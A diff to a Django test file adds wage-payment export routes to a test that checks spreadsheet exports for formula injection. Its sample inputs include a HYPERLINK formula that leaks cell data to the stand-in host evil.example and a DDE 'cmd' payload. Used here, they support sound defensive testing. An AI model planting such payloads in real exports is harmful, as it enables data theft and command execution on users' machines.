@@ -7,6 +7,7 @@ The test fails when a new export route (".xlsx" or "export" in its path) is not 
 """
 
 import csv
+import datetime
 import io
 import itertools
 
@@ -27,6 +28,8 @@ from tests.complaints.factories import make_complaint
 from tests.deposits.factories import make_deposit
 from tests.projects.factories import make_project, make_roster_entry, valid_id
 from tests.reports.factories_keytasks import make_task
+from tests.wages.factories import make_pay_line
+from wages.models import PayLine
 
 pytestmark = pytest.mark.django_db
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
@@ -90,6 +93,8 @@ EXPORTS = {
     "blacklist:export": lambda o: [],
     "deposits:export": lambda o: [],
     "reports:task_export": lambda o: [],
+    "wages:project_export": lambda o: [o["project"].pk],
+    "wages:arrears_export": lambda o: [],
 }
 
 
@@ -115,7 +120,9 @@ def test_every_export_route_is_covered():
 
 def test_no_exported_cell_starts_a_formula(admin, office, township_a, department, client_for):
     project = make_project(township_a, department)
-    make_roster_entry(project)
+    make_pay_line(
+        make_roster_entry(project), datetime.date(2026, 1, 1), net=None, paid_on=None, bank_reference="R"
+    )
     make_complaint(project=project)
     risk_services.sweep_run(run=SweepRun.objects.create())
     listed = make_listed(user=office, project=make_project(township_a, department))
@@ -123,7 +130,17 @@ def test_no_exported_cell_starts_a_formula(admin, office, township_a, department
     make_task(departments=[department], townships=[township_a])
     client = client_for(admin)
     objects = {"project": project, "import_job": _roster_errors_job(client, project)}
-    for model in (Enterprise, Project, Worker, RosterEntry, Complaint, EnforcementOrder, Hazard, KeyTask):
+    for model in (
+        Enterprise,
+        Project,
+        Worker,
+        RosterEntry,
+        Complaint,
+        EnforcementOrder,
+        Hazard,
+        KeyTask,
+        PayLine,
+    ):
         _poison(model)
     _poison(BlacklistEntry, BlacklistEntry.objects.filter(pk=listed.pk))
     assert Hazard.objects.exists() and WageDeposit.objects.exists() and EnforcementOrder.objects.exists()
@@ -138,7 +155,8 @@ def test_no_exported_cell_starts_a_formula(admin, office, township_a, department
         if bad:
             problems[name] = bad[:5]
         # the poisoned text is really in the workbook (escaped), so the check is not vacuous
-        if name in ("projects:export", "projects:roster_export", "complaints:export", "risk:export"):
+        poisoned = ("projects:export", "projects:roster_export", "complaints:export", "risk:export")
+        if name in (*poisoned, "wages:project_export", "wages:arrears_export"):
             assert "'=HYPERLINK" in content.decode("latin-1") or b"HYPERLINK" in _strings(content), name
     assert problems == {}
 
